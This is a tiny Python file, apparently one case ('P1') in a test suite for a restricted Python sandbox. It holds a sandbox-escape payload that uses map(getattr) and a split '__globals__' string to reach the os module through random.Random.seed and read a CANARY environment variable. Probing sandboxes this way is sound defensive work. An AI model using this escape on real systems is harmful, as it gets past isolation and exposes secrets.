"""P1: getattr handed to map."""


def attack(door):
    door.run("import random")
    door.value(
        "list(map(getattr, [random.Random.seed], ['__glo' + 'bals__']))[0]['_os'].environ['CANARY']"
    )
